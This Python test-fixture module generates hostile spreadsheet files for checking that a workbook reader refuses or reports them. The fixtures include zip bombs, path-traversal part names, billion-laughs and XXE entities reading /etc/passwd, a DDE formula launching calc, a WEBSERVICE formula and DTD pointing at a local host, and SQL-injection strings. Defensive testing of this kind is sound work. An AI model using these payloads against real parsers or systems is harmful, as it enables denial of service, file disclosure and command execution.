"""Workbooks made to do harm: what each tries, and how it must end.

"refused": nothing is read. "told": it is read safely and something is said. "read": harmless, all rows good.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

from tests.reports.sheets.building import (
    MAIN,
    OFFICE,
    PACKAGE,
    directory_changed,
    packed,
    parts,
    sheet_xml,
    text_cell,
    text_row,
    xml,
    zipped,
)

HEADS = text_row(1, ["คำนำหน้า/ยศ", "ชื่อ", "สกุล", "หมายเหตุ"])
GOOD = text_row(2, ["นาย", "สมมติ", "ใจดี", "ปกติ"])
PERSON = sheet_xml(HEADS + GOOD)
MB = 1 << 20


class Hostile(NamedTuple):
    """One file: what it tries, how reading it must end, and how it is made."""

    name: str
    end: str
    make: Callable[[Path], object]


_CASES: list[Hostile] = []


def case(end: str) -> Callable[[Callable[[Path], object]], Callable[[Path], object]]:
    def kept(make: Callable[[Path], object]) -> Callable[[Path], object]:
        _CASES.append(Hostile(make.__name__, end, make))
        return make

    return kept


def cases() -> list[Hostile]:
    return list(_CASES)


# -- the zip ----------------------------------------------------------------------------------------


@case("refused")
def zip_bomb_in_a_sheet(path: Path) -> None:
    packed(path, parts(sheet_xml(" " * (100 * MB))), level=9)


@case("refused")
def zip_bomb_in_a_part_nobody_needs(path: Path) -> None:
    packed(path, parts(PERSON) | {"xl/media/image1.png": bytes(100 * MB)}, level=9)


@case("refused")
def many_parts_that_are_large_together(path: Path) -> None:
    noise = bytes(range(256)) * 40 + bytes(20_000)
    packed(path, parts(PERSON) | {f"xl/x{n}.bin": noise * 100 for n in range(150)})


@case("refused")
def directory_tells_a_smaller_size(path: Path) -> None:
    packed(path, parts(sheet_xml(HEADS + GOOD * 200_000)), level=9)
    directory_changed(path, "xl/worksheets/sheet1.xml", unpacked=50_000)


@case("refused")
def directory_tells_a_larger_size(path: Path) -> None:
    packed(path, parts(PERSON))
    directory_changed(path, "xl/worksheets/sheet1.xml", unpacked=0xFFFFFFF0)


@case("refused")
def entries_that_share_their_bytes(path: Path) -> None:
    """As in the overlapping bombs of 2019: many directory entries point at one piece of data."""
    packed(path, parts(sheet_xml(" " * (2 * MB) + HEADS)), level=9)
    content = path.read_bytes()
    start = content.index(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    entry = content[start : content.index(b"PK\x01\x02", start + 4)]
    count = 1_500
    copies = b"".join(entry.replace(b"[Content_Types].xml", b"%019d" % n) for n in range(count))
    total = len(copies) + end - start
    tail = bytearray(content[end:])
    struct.pack_into("<HHI", tail, 8, count + 5, count + 5, total)
    path.write_bytes(content[:end] + copies + bytes(tail))


@case("refused")
def twenty_thousand_entries(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for n in range(20_000):
            archive.writestr(f"x{n}", b"")


@case("refused")
def directory_of_a_zip64_that_is_not_there(path: Path) -> None:
    content = packed(path, parts(PERSON)).read_bytes()
    at = content.rindex(b"PK\x05\x06")
    path.write_bytes(content[:at] + b"PK\x06\x07" + struct.pack("<IQI", 0, 1 << 60, 1) + content[at:])


@case("refused")
def cut_in_the_middle(path: Path) -> None:
    content = packed(path, parts(PERSON)).read_bytes()
    path.write_bytes(content[: len(content) // 2])


@case("refused")
def cut_before_its_last_bytes(path: Path) -> None:
    path.write_bytes(packed(path, parts(PERSON)).read_bytes()[:-10])


@case("refused")
def flipped_bits_in_a_part(path: Path) -> None:
    content = bytearray(packed(path, parts(sheet_xml(HEADS + GOOD * 50))).read_bytes())
    at = content.index(b"xl/worksheets/sheet1.xml") + 60
    content[at : at + 8] = bytes(byte ^ 0x55 for byte in content[at : at + 8])
    path.write_bytes(content)


@case("refused")
def two_parts_of_one_name(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, part in (*parts(PERSON).items(), ("xl/Worksheets/sheet1.xml", b"<other/>")):
            archive.writestr(name, part)


@case("refused")
def part_named_to_leave_the_folder(path: Path) -> None:
    packed(path, parts(PERSON) | {"../../../../tmp/suanruam-was-here": b"x"})


@case("refused")
def part_named_by_an_absolute_path(path: Path) -> None:
    packed(path, parts(PERSON) | {"/etc/suanruam-was-here": b"x"})


@case("refused")
def part_named_for_windows(path: Path) -> None:
    packed(path, parts(PERSON) | {"C:\\Windows\\suanruam": b"x"})


@case("refused")
def packed_by_a_rare_method(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
        for name, part in parts(PERSON).items():
            archive.writestr(name, part)


@case("refused")
def parts_marked_as_encrypted(path: Path) -> None:
    packed(path, parts(PERSON))
    directory_changed(path, "xl/worksheets/sheet1.xml", flags=1)


# -- not a workbook ---------------------------------------------------------------------------------


@case("refused")
def encrypted_workbook_or_old_xls(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000))


@case("refused")
def csv_renamed(path: Path) -> None:
    path.write_text("ชื่อ,สกุล\n=cmd|' /C calc'!A0,x\n", encoding="utf-8")


@case("refused")
def web_page_renamed(path: Path) -> None:
    path.write_text("<html><table><tr><td>ชื่อ</td></tr></table></html>", encoding="utf-8")


@case("refused")
def empty_file(path: Path) -> None:
    path.write_bytes(b"")


@case("refused")
def folder_instead_of_a_file(path: Path) -> None:
    path.mkdir()


@case("refused")
def zip_of_something_else(path: Path) -> None:
    packed(path, {"readme.txt": b"hello"})


@case("refused")
def workbook_without_sheets(path: Path) -> None:
    content = parts(PERSON)
    del content["xl/worksheets/sheet1.xml"]
    packed(path, content)


@case("refused")
def workbook_with_macros(path: Path) -> None:
    packed(path, parts(PERSON) | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


@case("refused")
def another_zip_where_the_sheet_should_be(path: Path) -> None:
    packed(path, parts(zipped({"deeper.zip": zipped({"deepest": bytes(MB)})})))


# -- XML --------------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BOMB = f'<!DOCTYPE worksheet [<!ENTITY l0 "ha">{_LAUGHS}]>'
_BODY = f'<worksheet xmlns="{MAIN}"><sheetData>{HEADS}<row r="2">'


@case("refused")
def billion_laughs_in_a_sheet(path: Path) -> None:
    cell = '<c r="A2" t="inlineStr"><is><t>&l9;</t></is></c>'
    packed(path, parts(xml(f"{_BOMB}{_BODY}{cell}</row></sheetData></worksheet>")))


@case("refused")
def billion_laughs_in_shared_strings(path: Path) -> None:
    strings = xml(f'{_BOMB}<sst xmlns="{MAIN}"><si><t>&l9;</t></si></sst>')
    packed(path, parts(PERSON, sharedStrings=strings))


@case("refused")
def entity_that_opens_a_file(path: Path) -> None:
    doctype = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    cell = '<c r="A2" t="inlineStr"><is><t>&x;</t></is></c>'
    packed(path, parts(xml(f"{doctype}{_BODY}{cell}</row></sheetData></worksheet>")))


@case("refused")
def document_type_from_the_network(path: Path) -> None:
    doctype = '<!DOCTYPE styleSheet SYSTEM "http://127.0.0.1:9/evil.dtd">'
    packed(path, parts(PERSON, styles=xml(f'{doctype}<styleSheet xmlns="{MAIN}"/>')))


@case("refused")
def document_type_written_in_utf_16(path: Path) -> None:
    doctype = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet [<!ENTITY x "y">]>'
    packed(path, parts(f"{doctype}{_BODY}</row></sheetData></worksheet>".encode("utf-16")))


@case("refused")
def elements_nested_without_end(path: Path) -> None:
    packed(path, parts(sheet_xml(HEADS + "<a>" * 5_000)))


@case("refused")
def tag_that_does_not_end(path: Path) -> None:
    filler = "".join(f"{n:08x}" for n in range(MB // 2))
    packed(path, parts(sheet_xml(f'<row r="1" x="{filler}"')))


@case("refused")
def attributes_without_end(path: Path) -> None:
    packed(path, parts(sheet_xml("<row " + " ".join(f'a{n}="{n}"' for n in range(400_000)) + "/>")))


@case("refused")
def letters_that_xml_forbids(path: Path) -> None:
    packed(path, parts(PERSON.replace("ปกติ".encode(), b"\x00\x01\x02")))


@case("refused")
def letters_that_are_not_utf_8(path: Path) -> None:
    packed(path, parts(PERSON.replace("ปกติ".encode(), b"\xed\xa0\x80\xff")))


@case("refused")
def sheet_that_stops_in_the_middle(path: Path) -> None:
    packed(path, parts(PERSON[:-40]))


# -- too much ---------------------------------------------------------------------------------------


@case("refused")
def ten_thousand_sheets(path: Path) -> None:
    listed = "".join(f'<sheet name="s{n}" sheetId="{n + 1}" r:id="rId1"/>' for n in range(10_000))
    book = xml(f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{listed}</sheets></workbook>')
    packed(path, parts(PERSON) | {"xl/workbook.xml": book})


@case("refused")
def a_million_styles(path: Path) -> None:
    formats = "".join(f'<xf numFmtId="{n}"/>' for n in range(1_000_000))
    styles = xml(f'<styleSheet xmlns="{MAIN}"><cellXfs>{formats}</cellXfs></styleSheet>')
    packed(path, parts(PERSON, styles=styles))


@case("refused")
def five_million_shared_strings(path: Path) -> None:
    strings = "".join(f"<si><t>{n:x}</t></si>" for n in range(2_500_000))
    packed(path, parts(PERSON, sharedStrings=xml(f'<sst xmlns="{MAIN}">{strings}</sst>')))


@case("told")
def one_huge_shared_string(path: Path) -> None:
    filler = "".join(f"{n:08x}" for n in range(MB // 2))
    strings = xml(f'<sst xmlns="{MAIN}"><si><t>{filler}</t></si></sst>')
    row = '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>0</v></c></row>'
    packed(path, parts(sheet_xml(HEADS + row), sharedStrings=strings))


@case("refused")
def one_huge_cell(path: Path) -> None:
    filler = "".join(f"{n:08x}" for n in range(MB // 2))
    packed(path, parts(sheet_xml(HEADS + f'<row r="2">{text_cell("A2", filler)}</row>')))


@case("refused")
def ten_million_blank_cells(path: Path) -> None:
    row = '<row r="2">' + "<c/>" * 1_000 + "</row>"
    packed(path, parts(sheet_xml(HEADS + row * 10_000)), level=1)


@case("refused")
def a_million_rows(path: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, 600_000))
    packed(path, parts(sheet_xml(HEADS + rows)))


@case("refused")
def rows_that_are_all_wrong(path: Path) -> None:
    cells = "".join('<c t="e"><v>#REF!</v></c>' for _ in range(4))
    packed(path, parts(sheet_xml(HEADS + "".join(f'<row r="{n}">{cells}</row>' for n in range(2, 50_000)))))


@case("told")
def references_that_all_point_nowhere(path: Path) -> None:
    heads = text_row(1, ["เวที", "กลุ่ม", "จำนวนที่มา (คน)"])
    rows = "".join(text_row(n, [f"เวทีที่ไม่มี {n}", f"กลุ่ม {n}", "1"]) for n in range(2, 9_000))
    packed(path, parts(sheet_xml(heads + rows), name="สัดส่วนประชาคม"))


@case("told")
def a_long_chain_of_rows_behind_a_wrong_one(path: Path) -> None:
    heads = text_row(1, ["ชื่ออ้างอิง", "เลขที่รับ", "ซ้ำกับ/รวมกับ"])
    rows = "".join(text_row(n, [f"ก{n}", f"{n:05}", f"ก{n - 1}"]) for n in range(3, 9_000))
    packed(path, parts(sheet_xml(heads + text_row(2, ["ก2", "00002", "ไม่มี"]) + rows), name="opinions"))


@case("told")
def opinions_that_repeat_each_other_in_a_circle(path: Path) -> None:
    heads = text_row(1, ["ชื่ออ้างอิง", "เลขที่รับ", "ซ้ำกับ/รวมกับ", "ไม่รู้จัก"])
    rows = (
        text_row(2, ["ก", "1", "ข", "x"])
        + text_row(3, ["ข", "2", "ก", "x"])
        + text_row(4, ["ค", "3", "ค", "x"])
    )
    packed(path, parts(sheet_xml(heads + rows), name="opinions"))


@case("told")
def a_hundred_thousand_merged_cells(path: Path) -> None:
    merged = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(2, 100_000))
    packed(path, parts(sheet_xml(HEADS + GOOD, after=f"<mergeCells>{merged}</mergeCells>")))


@case("told")
def sixteen_thousand_unknown_columns(path: Path) -> None:
    heads = "".join(f'<c t="inlineStr"><is><t>หัว {n}</t></is></c>' for n in range(16_384))
    packed(path, parts(sheet_xml(f'<row r="1">{heads}</row>' + GOOD)))


# -- cells ------------------------------------------------------------------------------------------


@case("read")
def cell_in_the_far_corner(path: Path) -> None:
    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    packed(path, parts(sheet_xml(HEADS + GOOD + corner, before='<dimension ref="A1:XFD1048576"/>')))


@case("read")
def row_at_the_far_end(path: Path) -> None:
    packed(path, parts(sheet_xml(HEADS + GOOD + text_row(1_048_576, ["นาง", "ไกล", "สุด"]))))


@case("refused")
def row_beyond_the_end(path: Path) -> None:
    packed(
        path, parts(sheet_xml(HEADS + GOOD + '<row r="99999999999999999999"><c r="A1"><v>1</v></c></row>'))
    )


@case("refused")
def column_beyond_the_end(path: Path) -> None:
    packed(path, parts(sheet_xml(HEADS + '<row r="2"><c r="ZZZZZZZZZZ2"><v>1</v></c></row>')))


@case("told")
def formula_that_starts_a_program(path: Path) -> None:
    cell = "<c r=\"B2\"><f>cmd|' /C calc'!A0</f><v>0</v></c>"
    packed(path, parts(sheet_xml(HEADS + f'<row r="2">{text_cell("A2", "นาย")}{cell}</row>')))


@case("told")
def formula_that_asks_the_network(path: Path) -> None:
    cell = '<c r="B2" t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>ok</v></c>'
    packed(path, parts(sheet_xml(HEADS + f'<row r="2">{text_cell("A2", "นาย")}{cell}</row>')))


@case("read")
def links_to_other_workbooks(path: Path) -> None:
    link = f'<externalLink xmlns="{MAIN}"><externalBook/></externalLink>'
    target = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" TargetMode="External" '
        f'Type="{OFFICE}/externalLinkPath" Target="http://127.0.0.1:9/x.xlsx"/></Relationships>'
    )
    more = {"xl/externalLinks/externalLink1.xml": xml(link)}
    more["xl/externalLinks/_rels/externalLink1.xml.rels"] = xml(target)
    packed(path, parts(PERSON) | more)


@case("refused")
def sheet_that_lies_outside(path: Path) -> None:
    packed(path, parts(PERSON, target="../../../../../etc/passwd"))


@case("refused")
def sheet_that_is_the_workbook_itself(path: Path) -> None:
    content = parts(PERSON, target="/xl/workbook.xml")
    packed(
        path, content | {"_rels/.rels": content["_rels/.rels"].replace(b"xl/workbook.xml", b"xl/none.xml")}
    )


@case("told")
def shared_strings_that_are_not_there(path: Path) -> None:
    cells = "".join(f'<c t="s"><v>{n}</v></c>' for n in ("0", "-1", "99999999999999999999", "x"))
    packed(path, parts(sheet_xml(HEADS + f'<row r="2">{cells}</row>')))


@case("told")
def letters_hidden_in_escapes(path: Path) -> None:
    packed(
        path, parts(sheet_xml(HEADS + text_row(2, ["นาย", "ก_x0000_ข", "_xD800_", "_x001B_[31m_x202E_กลับ"])))
    )


@case("told")
def numbers_that_are_none(path: Path) -> None:
    heads = text_row(1, ["ชื่อเต็ม", "จำนวนประชากร", "Villages and communities"])
    values = (
        ("1e400", "NaN"),
        ("100000000000000000000", "INF"),
        ("-1E+9999", "1" * 5_000),
        ("0x10", "1_000"),
    )
    rows = "".join(
        f'<row r="{n}">{text_cell(f"A{n}", f"LAO {n}")}<c><v>{one}</v></c><c><v>{two}</v></c></row>'
        for n, (one, two) in enumerate(values, 2)
    )
    packed(path, parts(sheet_xml(heads + rows), name="offices"))


@case("told")
def days_that_are_none(path: Path) -> None:
    styles = xml(
        f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    )
    heads = text_row(1, ["เรื่อง", "วันที่ลงนาม"])
    serials = ("-5", "0", "1e12", "2958466", "NaN", "99999999999999999999999", "")
    rows = "".join(
        f'<row r="{n}">{text_cell(f"A{n}", f"MOU {n}")}<c r="B{n}" s="1"><v>{serial}</v></c></row>'
        for n, serial in enumerate(serials, 2)
    )
    texts = "".join(
        text_row(n, [f"MOU {n}", text])
        for n, text in enumerate(("31 ก.พ. 2568", "0/0/0", "1/1/99999", "1 " + "ต.ค. " * 9_000), 20)
    )
    packed(path, parts(sheet_xml(heads + rows + texts), name="MOU", styles=styles))


@case("told")
def piles_of_tone_marks(path: Path) -> None:
    packed(path, parts(sheet_xml(HEADS + text_row(2, ["นาย", "ก" + "ำ่" * 50_000, "ก" + "่ิ" * 50_000]))))


@case("told")
def piles_of_tone_marks_in_heads_and_names(path: Path) -> None:
    pile = "ก" + "ำ่" * 20_000
    rows = text_row(1, ["ชื่ออ้างอิง", "คำนำหน้า/ยศ", "ชื่อ", pile]) + text_row(2, [pile, "นาย", "ก", pile])
    packed(path, parts(sheet_xml(rows)))


@case("told")
def further_data_nested_without_end(path: Path) -> None:
    heads = text_row(1, ["ชื่อ", "extra"])
    rows = text_row(2, ["ก", "[" * 100_000]) + text_row(3, ["ข", '{"a":' * 5_000 + "1" + "}" * 5_000])
    more = text_row(4, ["ค", '{"a":NaN}']) + text_row(5, ["ง", '{"a":"\\ud800"}']) + text_row(6, ["จ", "[1]"])
    packed(path, parts(sheet_xml(heads + rows + more)))


@case("told")
def ids_that_are_none(path: Path) -> None:
    heads = text_row(1, ["ชื่อ", "id"])
    ids = ("../../etc/passwd", "'; DROP TABLE persons; --", "ก" * 10_000, "%s%n", "a\nb")
    packed(path, parts(sheet_xml(heads + "".join(text_row(n, ["ก", one]) for n, one in enumerate(ids, 2)))))


@case("told")
def data_in_a_hidden_sheet(path: Path) -> None:
    packed(path, parts(PERSON, state="veryHidden"))


@case("told")
def sheet_of_an_unknown_name(path: Path) -> None:
    packed(path, parts(sheet_xml(text_row(1, ["a", "b", "c"]) + GOOD), name="'; DROP TABLE x; --"))


@case("read")
def phonetic_and_rich_texts(path: Path) -> None:
    rich = "<is><r><t>สม</t></r><r><rPr/><t>มติ</t></r><rPh sb='0' eb='1'><t>ซ่อน</t></rPh></is>"
    cell = f'<c r="B2" t="inlineStr">{rich}</c>'
    packed(path, parts(sheet_xml(HEADS + f'<row r="2">{text_cell("A2", "นาย")}{cell}</row>')))


def made(folder: Path) -> Iterator[tuple[Hostile, Path]]:
    for one in _CASES:
        path = folder / f"{one.name}.xlsx"
        one.make(path)
        yield one, path
